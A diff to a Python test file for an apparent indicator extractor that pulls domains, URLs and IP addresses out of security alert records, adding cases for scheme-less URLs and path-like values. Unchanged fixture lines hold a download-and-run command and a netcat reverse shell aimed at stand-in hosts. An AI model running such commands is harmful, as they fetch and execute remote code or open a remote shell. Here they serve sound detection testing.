@@ -37,7 +37,8 @@ def found(document: Any) -> list[str]:
         ({"dns": {"question": {"name": "a.evil.example"}}}, ["a.evil.example"]),
         ({"DestinationHostname": "a.evil.example"}, ["a.evil.example"]),
         ({"indicator": {"domain": "a[.]evil[.]example"}}, ["a.evil.example"]),
-        # URLs; one of a command too.
+        # URLs; one without a scheme, one of a command too.
+        ({"url": "www.evil.example/x?y=1"}, ["www.evil.example"]),
         ({"url": "hxxps://evil[.]example/x,y?z=1"}, ["https://evil.example/x,y?z=1"]),
         ({"CommandLine": 'curl "http://evil.example/a.sh" | sh'}, ["http://evil.example/a.sh"]),
         ({"cmdline": "nc -e /bin/sh 203.0.113.7 4444"}, ["203.0.113.7"]),
@@ -97,6 +98,8 @@ def test_what_is_anothers_is_found(document: dict[str, Any], expected: list[str]
         {"hostname": "ws-1.corp.example", "domain": "corp.example"},
         # The domain that a contacted one is below.
         {"url": {"registered_domain": "evil.example"}},
+        # Paths.
+        {"url": "/a/b.example/x", "page_url": "index.php/x", "link_url": "a b.example/x"},
         # Links to consoles, APIs and advice.
         {"alertWebUrl": "https://security.evil.example/x", "html_url": "https://evil.example/a", "selfLink": "x"},
         {"falcon_host_link": "https://evil.example/x", "references": ["https://blog.evil.example/x"]},
